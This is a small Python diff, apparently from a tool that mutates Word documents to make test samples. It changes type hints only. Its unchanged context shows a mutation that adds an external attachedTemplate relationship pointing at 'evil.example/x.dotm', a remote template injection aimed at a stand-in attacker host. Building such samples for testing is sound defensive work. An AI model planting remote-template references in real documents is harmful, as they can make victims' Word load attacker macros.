@@ -5,7 +5,7 @@ from __future__ import annotations
 import random
 import re
 
-from mutation_word import _MAIN, _RELATED, AFTER, CHANGES, TEXT, Files, emptied, paragraph, run, sub
+from mutation_word import _MAIN, _RELATED, AFTER, CHANGES, TEXT, Change, Files, emptied, paragraph, run, sub
 
 ADDED = "نص دخيل"
 _W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
@@ -26,7 +26,7 @@ _DRAWN = (
 )
 
 
-def exchange(pattern: str, part: str = _MAIN) -> object:
+def exchange(pattern: str, part: str = _MAIN) -> Change:
     """Return the change that exchanges what the first two different matches hold in their group."""
 
     def made(files: Files, rng: random.Random) -> None:
@@ -44,7 +44,7 @@ def exchange(pattern: str, part: str = _MAIN) -> object:
     return made
 
 
-def setting(content: str) -> object:
+def setting(content: str) -> Change:
     return sub(r"</w:settings>", f"{content}</w:settings>", "word/settings.xml")
 
 
@@ -55,7 +55,7 @@ def template(files: Files, rng: random.Random) -> None:
     )
     one = f'<Relationship Id="rT" Type="{_RELATED}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
     files[name] = rels.decode().replace("</Relationships>", f"{one}</Relationships>").encode()
-    setting(f'<w:attachedTemplate xmlns:r="{_RELATED}" r:id="rT"/>')(files, rng)  # type: ignore[operator]
+    setting(f'<w:attachedTemplate xmlns:r="{_RELATED}" r:id="rT"/>')(files, rng)
 
 
 def bound(files: Files, rng: random.Random) -> None:
